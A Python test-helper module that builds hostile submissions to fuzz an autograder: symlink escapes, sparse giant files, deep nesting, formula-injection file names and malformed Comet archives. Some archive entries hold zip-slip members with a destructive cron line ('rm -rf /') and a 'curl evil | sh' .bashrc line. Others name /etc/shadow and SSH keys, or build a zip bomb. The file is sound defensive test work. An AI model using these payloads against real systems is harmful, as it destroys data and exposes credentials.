"""Submissions built to break a grader: hostile folders, file names and Comet archives.

Shared by the collection and archive fuzz tests and the end-to-end grading of
a hostile class. Everything is generated from a seed, so a failing case can be
built again.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shutil
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path

from autograder.reports.spreadsheets import FORMULA_STARTS

# --- folders -----------------------------------------------------------------------------------------

NAMES = [b"caf\xe9", b"\xff\xfe", b'=HYPERLINK("x.test?"&A1)', b"+cmd", b"-rf", b"@SUM(A1)",
         b"\ttab", b"\rreturn", b"new\nline", b"lab1-mnist.ipynb", b"artifacts", b"comet-offline", b"run.zip",
         b".hidden", b" ", "\u00fcn\u00efc\u00f6de".encode(), b"a" * 200, b"\x1b[31mred"]
"""File names a submission may hold: not UTF-8, spreadsheet formulas, control characters, long."""

KINDS = ["folder"] * 3 + ["file"] * 4 + ["big-file", "fifo", "link-to-file", "link-to-folder", "dangling-link",
                                         "link-loop", "sparse"]

SECRET = b"TOP-SECRET: never copied"


def outside(root: Path) -> Path:
    """A folder beside the class, holding a secret that links in a submission point at."""
    folder = root / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_bytes(SECRET)
    return folder


def random_tree(folder: Path, rng: random.Random, elsewhere: Path, entries: int = 60) -> None:
    """``entries`` random hostile things under ``folder``: folders, files, FIFOs, links out, sparse giants."""
    folders = [os.fsencode(folder)]
    for _ in range(entries):
        kind = rng.choice(KINDS)
        path = os.path.join(rng.choice(folders), rng.choice(NAMES))
        while os.path.lexists(path):
            path += str(rng.randrange(10)).encode()
        _make(kind, path, rng, elsewhere)
        if kind == "folder":
            folders.append(path)


def _make(kind: str, path: bytes, rng: random.Random, elsewhere: Path) -> None:
    if kind == "folder":
        os.mkdir(path)
    elif kind in ("file", "big-file"):
        with open(path, "wb") as handle:
            handle.write(rng.randbytes(rng.randrange(3000) if kind == "file" else 5000 + rng.randrange(3000)))
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "link-to-file":
        os.symlink(elsewhere / "secret.txt", path)
    elif kind == "link-to-folder":
        os.symlink(elsewhere, path)
    elif kind == "dangling-link":
        os.symlink(b"/nonexistent/" + os.path.basename(path), path)
    elif kind == "link-loop":
        os.symlink(os.path.basename(path), path)
    elif kind == "sparse":
        with open(path, "wb") as handle:
            handle.truncate(2**40)  # a terabyte that takes no disk


def nest(folder: Path, depth: int) -> None:
    """``folder/d/d/.../d/bottom.txt``, ``depth`` folders deep, built through folder descriptors:
    deeper than any path the system would accept (PATH_MAX) when ``depth`` is in the thousands."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
        bottom = os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(bottom, b"the bottom")
        os.close(bottom)
    finally:
        os.close(fd)


def unnest(folder: Path) -> None:
    """Remove what :func:`nest` built, one level at a time from the top: no path grows long, nothing recurses
    (``shutil.rmtree`` recurses once per level and fails past Python's recursion limit)."""
    top, spare = folder / "d", folder / "d-spare"
    while os.path.isdir(top / "d") and not os.path.islink(top / "d"):
        os.rename(top / "d", spare)
        os.rmdir(top)
        os.rename(spare, top)
    shutil.rmtree(top, ignore_errors=True)


def entries_below(folder: Path) -> list[tuple[bytes, os.stat_result]]:
    """Every entry under ``folder`` (paths relative, as bytes) and its ``lstat``, links never followed."""
    found, pending = [], [b""]
    base = os.fsencode(folder)
    while pending:
        relative = pending.pop()
        for name in os.listdir(os.path.join(base, relative) if relative else base):
            path = os.path.join(relative, name) if relative else name
            info = os.lstat(os.path.join(base, path))
            found.append((path, info))
            if stat.S_ISDIR(info.st_mode):
                pending.append(path)
    return found


# --- Comet archives ------------------------------------------------------------------------------------


def message(kind: str, **payload) -> str:
    return json.dumps({"type": kind, "payload": payload})


def parameter(name, value) -> str:
    return message("parameter_msg", param={"paramName": name, "paramValue": value, "step": None})


def metric(name, value) -> str:
    return message("metric_msg", metric={"metricName": name, "metricValue": value, "step": 1})


def metric_line(name: str, literal: str) -> str:
    """A metric message whose value is written as ``literal``, JSON or not (``NaN``, 5,000 digits)."""
    return metric(name, 0).replace('"metricValue": 0', f'"metricValue": {literal}')


HONEST_MESSAGES = [message("log_other", key="Name", value="dl101-lab1-mnist"), parameter("model", "cnn"),
                   metric("test_accuracy", 0.95)]


def archive(messages: list[str] | bytes = tuple(HONEST_MESSAGES), *, experiment: bytes | str | None = None,
            members: list[tuple[zipfile.ZipInfo | str, bytes]] = ()) -> bytes:
    """The bytes of a Comet offline archive: ``experiment.json``, ``messages.json`` and ``members``."""
    lines = messages if isinstance(messages, bytes) else "\n".join(messages).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("experiment.json", experiment if experiment is not None
                        else json.dumps({"offline_id": "0123456789abcdef", "project_name": "dl101"}))
        zipped.writestr("messages.json", lines)
        for member, data in members:
            zipped.writestr(member, data)
    return buffer.getvalue()


def _link_member(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def with_encrypted_flag(data: bytes, name: bytes) -> bytes:
    """The archive ``data`` with member ``name`` marked encrypted (zipfile cannot write one)."""
    data = bytearray(data)
    for signature, flags_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = data.find(signature)
        while start != -1:
            if data[start + name_at:start + name_at + len(name)] == name:
                data[start + flags_at] |= 0x1
            start = data.find(signature, start + 1)
    return bytes(data)


def zip_bomb(unpacked_bytes: int = 80 * 2**20) -> bytes:
    """A small archive whose messages.json unpacks to ``unpacked_bytes`` of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("experiment.json", "{}")
        with zipped.open("messages.json", "w", force_zip64=True) as member:
            for _ in range(unpacked_bytes // 2**20):
                member.write(bytes(2**20))
    return buffer.getvalue()


HOSTILE_ARCHIVES: dict[str, Callable[[], bytes]] = {
    "deep-json": lambda: archive(["[" * 20_000 + "]" * 20_000]),
    "deep-experiment": lambda: archive(experiment='{"a":' * 20_000 + "1" + "}" * 20_000),
    "huge-integer": lambda: archive([metric_line("test_accuracy", "9" * 5000)]),
    "overflowing-float": lambda: archive([metric_line("x", "1e999")]),
    "nan": lambda: archive([metric_line("test_accuracy", "NaN")]),
    "infinity": lambda: archive([metric_line("lr", "-Infinity")]),
    "not-utf8": lambda: archive(b"\xff\xfe{}\n"),
    "not-json": lambda: archive(["{not json"]),
    "line-not-an-object": lambda: archive(["5"]),
    "experiment-not-an-object": lambda: archive(experiment="[1, 2]"),
    "no-messages": lambda: _without("messages.json"),
    "absolute-member": lambda: archive(members=[("/etc/cron.d/evil", b"* * * * * root rm -rf /")]),
    "dot-dot-member": lambda: archive(members=[("../../.bashrc", b"curl evil | sh")]),
    "backslash-dot-dot-member": lambda: archive(members=[("..\\..\\evil", b"x")]),
    "drive-member": lambda: archive(members=[("C:/Windows/evil", b"x")]),
    "link-member": lambda: archive(members=[(_link_member("assets/passwd"), b"/etc/passwd")]),
    "encrypted-member": lambda: with_encrypted_flag(archive(members=[("assets/x", b"x")]), b"assets/x"),
    "file-path-outside": lambda: archive([*HONEST_MESSAGES, message(
        "file_upload", file_path="/etc/shadow", upload_type="asset", additional_params={})]),
    "file-path-dot-dot": lambda: archive([*HONEST_MESSAGES, message(
        "file_upload", file_path="assets/../../../home/x", upload_type="asset")],
        members=[("assets/x", b"x")]),
    "file-path-not-a-member": lambda: archive([*HONEST_MESSAGES, message("file_upload", file_path="missing.bin")]),
    "file-path-not-text": lambda: archive([*HONEST_MESSAGES, message("file_upload", file_path=["/etc/shadow"])]),
    "nested-item-outside": lambda: archive([*HONEST_MESSAGES, message(
        "asset_item", items=[{"file_path": "notes.txt"}, {"file_path": "/root/.ssh/id_rsa"}])],
        members=[("notes.txt", b"ok")]),
    "thumbnail-outside": lambda: archive([*HONEST_MESSAGES, message("3d_cloud", thumbnail_path="/etc/hosts")]),
    "many-members": lambda: archive(members=[(f"assets/{number}", b"") for number in range(300)]),
    "too-many-lines": lambda: archive(["{}"] * 100_001),
    "zip-bomb": zip_bomb,
    "truncated": lambda: archive()[: len(archive()) // 2],
    "not-a-zip": lambda: b"a zip in name only",
    "empty": lambda: b"",
}
"""Each archive and what it tries: deep or huge JSON, members that unpack outside, messages that name host files
(comet_ml's uploader uploads and then deletes a message's ``file_path``), zip bombs, plain garbage."""


def _without(name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr("experiment.json" if name != "experiment.json" else "messages.json", "{}")
    return buffer.getvalue()


def mutated(data: bytes, rng: random.Random) -> bytes:
    """``data`` with a few random bytes overwritten, cut short or repeated: a fuzzer's archive."""
    data = bytearray(data)
    for _ in range(rng.randrange(1, 8)):
        choice = rng.randrange(3)
        if choice == 0 and data:
            data[rng.randrange(len(data))] = rng.randrange(256)
        elif choice == 1 and data:
            del data[rng.randrange(len(data)):]
        else:
            start = rng.randrange(len(data) + 1)
            data[start:start] = data[start:start + rng.randrange(64)]
    return bytes(data)


# --- spreadsheets ---------------------------------------------------------------------------------------


def csv_cells(path: Path) -> list[str]:
    """Every cell of the CSV file at ``path``, row by row, as the csv module reads it."""
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def formula_cells(path: Path) -> list[str]:
    """The cells of the CSV file at ``path`` that a spreadsheet would run as formulas."""
    return [cell for cell in csv_cells(path) if cell.startswith(FORMULA_STARTS)]
